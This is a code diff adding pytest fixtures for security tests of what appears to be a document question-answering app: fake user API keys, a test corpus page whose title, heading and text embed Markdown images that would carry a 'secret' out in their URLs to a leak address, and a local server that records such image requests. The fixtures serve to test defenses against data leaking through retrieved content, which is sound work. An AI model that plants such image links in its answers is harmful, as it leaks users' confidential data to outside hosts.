@@ -90,3 +90,97 @@ def page(monkeypatch, tmp_path):
         return AppTest.from_file(str(PAGE), default_timeout=300)
 
     return make
+
+
+# --- access control and hostile content (tests/test_security_ui.py) ------------------------------
+
+HANA_KEY = "hana-key-0123456789"  # public and hr
+OMAR_KEY = "omar-key-9876543210"  # public only
+
+
+def write_identities(path: Path, anonymous_groups: str = "[public]") -> Path:
+    """An identities file with hana (hr) and omar (public; his key stored as its sha256)."""
+    import hashlib
+
+    omar_digest = hashlib.sha256(OMAR_KEY.encode()).hexdigest()
+    path.write_text(
+        f"anonymous_groups: {anonymous_groups}\n"
+        "users:\n"
+        f"  - {{user: hana, api_key: {HANA_KEY}, groups: [public, hr]}}\n"
+        f"  - {{user: omar, api_key_sha256: {omar_digest}, groups: [public]}}\n",
+        encoding="utf-8",
+    )
+    return path
+
+
+HOSTILE_QUESTION = "What is the Zephyr launch code?"
+HOSTILE_LINK = ("Zephyr runbook", "http://runbook.example/zephyr", "runbook.example")
+
+
+def write_hostile_corpus(folder: Path, leak_url: str) -> Path:
+    """A page whose title, section and text carry Markdown images pointing at ``leak_url`` (with
+    what they would carry away in the address), and a Markdown link, next to an ordinary page."""
+    label, url, _ = HOSTILE_LINK
+    folder.mkdir(parents=True, exist_ok=True)
+    (folder / "zephyr-launch.html").write_text(
+        "<html><head><title>Zephyr</title></head><body><main>"
+        f"<h1>Zephyr ![t]({leak_url}/title.png?d=title) launch notes</h1>"
+        f"<h2>Launch ![s]({leak_url}/section.png?d=section) codes</h2>"
+        f"<p>The Zephyr launch code is ZX-42 ![x]({leak_url}/leak.png?d=secret) and the [{label}]({url}) "
+        "lists every step.</p>"
+        "<p>Zephyr launches happen on Tuesdays after the safety review.</p>"
+        "</main></body></html>",
+        encoding="utf-8",
+    )
+    (folder / "canteen.md").write_text(
+        "# Canteen\n\nThe canteen opens at noon and serves soup on Fridays.\n", encoding="utf-8"
+    )
+    return folder
+
+
+class LeakServer:
+    """A local web server that counts every request: a browser that loads an image from a
+    document or an answer shows up here."""
+
+    def __init__(self) -> None:
+        import threading
+        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+        self.paths: list[str] = []
+        server = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:  # noqa: N802 (the http.server name)
+                server.paths.append(self.path)
+                self.send_response(200)
+                self.send_header("content-type", "image/png")
+                self.send_header("content-length", "0")
+                self.end_headers()
+
+            def log_message(self, *args) -> None:
+                pass
+
+        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.httpd.daemon_threads = True
+        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
+        self.thread.start()
+
+    @property
+    def host(self) -> str:
+        host, port = self.httpd.server_address[:2]
+        return f"{host}:{port}"
+
+    @property
+    def url(self) -> str:
+        return f"http://{self.host}"
+
+    def close(self) -> None:
+        self.httpd.shutdown()
+        self.httpd.server_close()
+
+
+@pytest.fixture()
+def leak_server():
+    server = LeakServer()
+    yield server
+    server.close()
